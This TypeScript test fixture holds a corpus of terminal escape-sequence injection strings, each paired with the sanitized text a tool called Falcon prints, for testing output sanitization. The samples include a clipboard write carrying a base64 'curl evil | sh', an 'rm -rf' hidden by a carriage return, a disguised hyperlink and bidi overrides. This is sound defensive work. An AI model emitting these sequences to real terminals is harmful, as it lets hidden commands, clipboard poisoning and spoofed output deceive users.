// Strings a model, a tool or a server may send to take over the terminal that shows them, each with
// what Falcon prints instead. Every front end's test sends these through its output path.

export interface EscapeSample {
  name: string;
  text: string;
  /** `terminalSafeText(text)`. */
  shown: string;
}

const ALL_C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('');
const ALL_C1_SHOWN = Array.from({ length: 32 }, (_, i) => `␛${String.fromCharCode(0x40 + i)}`).join('');

export const ESCAPE_CORPUS: EscapeSample[] = [
  {
    name: 'CSI erase line and cursor to column 1',
    text: 'touch pwned #\u001b[2K\u001b[1G$ echo harmless-looking',
    shown: 'touch pwned #␛[2K␛[1G$ echo harmless-looking',
  },
  { name: 'CSI cursor up, clear screen, home', text: 'a\u001b[1A\u001b[2J\u001b[Hb', shown: 'a␛[1A␛[2J␛[Hb' },
  { name: 'SGR colours of its own', text: '\u001b[31mred\u001b[0m', shown: '␛[31mred␛[0m' },
  { name: 'OSC 0 title ended by BEL', text: '\u001b]0;pwned-title\u0007after', shown: '␛]0;pwned-title^Gafter' },
  { name: 'OSC 2 title ended by ST', text: '\u001b]2;pwned-title-st\u001b\\after', shown: '␛]2;pwned-title-st␛\\after' },
  { name: 'OSC 8 hyperlink', text: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007', shown: '␛]8;;https://evil.example^Gclick␛]8;;^G' },
  { name: 'OSC 52 clipboard write', text: '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007', shown: '␛]52;c;Y3VybCBldmlsIHwgc2g=^G' },
  { name: 'DCS request', text: '\u001bP+q544e\u001b\\', shown: '␛P+q544e␛\\' },
  { name: 'APC', text: '\u001b_Gf=100;payload\u001b\\', shown: '␛_Gf=100;payload␛\\' },
  { name: '8-bit CSI and OSC (C1)', text: '\u009b2J\u009d0;c1-title\u009c', shown: '␛[2J␛]0;c1-title␛\\' },
  { name: 'every C1 control U+0080–U+009F', text: ALL_C1, shown: ALL_C1_SHOWN },
  { name: 'lone ESC', text: 'end\u001b', shown: 'end␛' },
  { name: 'CR to overwrite a line', text: 'rm -rf ~/work\rls -la        ', shown: 'rm -rf ~/work^Mls -la        ' },
  { name: 'backspaces over a word', text: 'dangerous\b\b\b\b\b\b\b\b\bsafe', shown: 'dangerous^H^H^H^H^H^H^H^H^Hsafe' },
  {
    name: 'bidi override and isolates',
    text: 'a\u202Eevil\u202C\u2066b\u2067c\u2068d\u2069',
    shown: 'a<U+202E>evil<U+202C><U+2066>b<U+2067>c<U+2068>d<U+2069>',
  },
  { name: 'NUL, BEL, VT, FF and DEL', text: 'x\u0000\u0007\u000B\u000C\u007Fy', shown: 'x^@^G^K^L^?y' },
];

/** The corpus as one text, a sample a line, each after its name. */
export const ESCAPE_CORPUS_TEXT = ESCAPE_CORPUS.map((sample) => `${sample.name}: ${sample.text}`).join('\n');
export const ESCAPE_CORPUS_SHOWN = ESCAPE_CORPUS.map((sample) => `${sample.name}: ${sample.shown}`).join('\n');

/** Characters that must never reach a terminal from untrusted text: C0 (but tab and newline), DEL, C1, bidi controls. */
export const UNSAFE_CHARACTER = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

/** Falcon's own styling: SGR colours. Remove it, and nothing unsafe may remain. */
export function withoutColours(output: string): string {
  return output.replace(/\u001b\[[0-9;]*m/g, '');
}
